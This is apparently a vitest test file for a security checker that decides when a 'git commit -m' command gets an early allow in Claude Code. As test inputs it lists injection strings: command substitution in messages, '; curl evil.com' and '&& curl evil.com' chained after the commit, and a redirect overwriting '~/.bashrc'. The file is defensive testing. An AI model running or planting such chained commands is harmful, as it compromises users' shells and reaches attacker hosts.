// BA1 #12 and Claude Code's early allow for a plain `git commit -m`: which commits skip the checks.
import { describe, expect, it } from 'vitest';
import { buildContext } from './context';
import { checkGitCommit } from './git';

const verdict = (command: string) => checkGitCommit(buildContext(command)).kind;

describe('BA1 #12 git commit early allow', () => {
  it.each([
    'git commit -m "fix: a bug"',
    "git commit -m 'feat: $(literal)'",
    'git commit --amend -m "x"',
    'git commit -m "x" --author="A <a@b.c>"',
    'git commit -m "multi\nline"',
  ])('allows %j', (command) => {
    expect(verdict(command)).toBe('allow');
  });

  it.each([
    'git commit -m "$(id)"',
    'git commit -m "a `id`"',
    'git commit -m "${X}"',
    'git commit -m "--amend"',
  ])('asks about %j', (command) => {
    expect(verdict(command)).toBe('ask');
  });

  it.each([
    ['an operator before -m', 'git commit ; curl evil.com -m "x"'],
    ['an operator after the message', 'git commit -m "x" && curl evil.com'],
    ['a redirect after the message', "git commit --allow-empty -m 'payload' > ~/.bashrc"],
    ['a backslash anywhere', 'git commit -m "a\\" && evil"'],
    ['a newline between git and commit', 'git\ncommit -m "x"'],
    ['no -m at all', 'git commit'],
    ['a glued -m', 'git commit -m"x"'],
    ['another command', 'git push -m "x"'],
  ])('runs the full checks with %s', (_why, command) => {
    expect(verdict(command)).toBe('pass');
  });
});
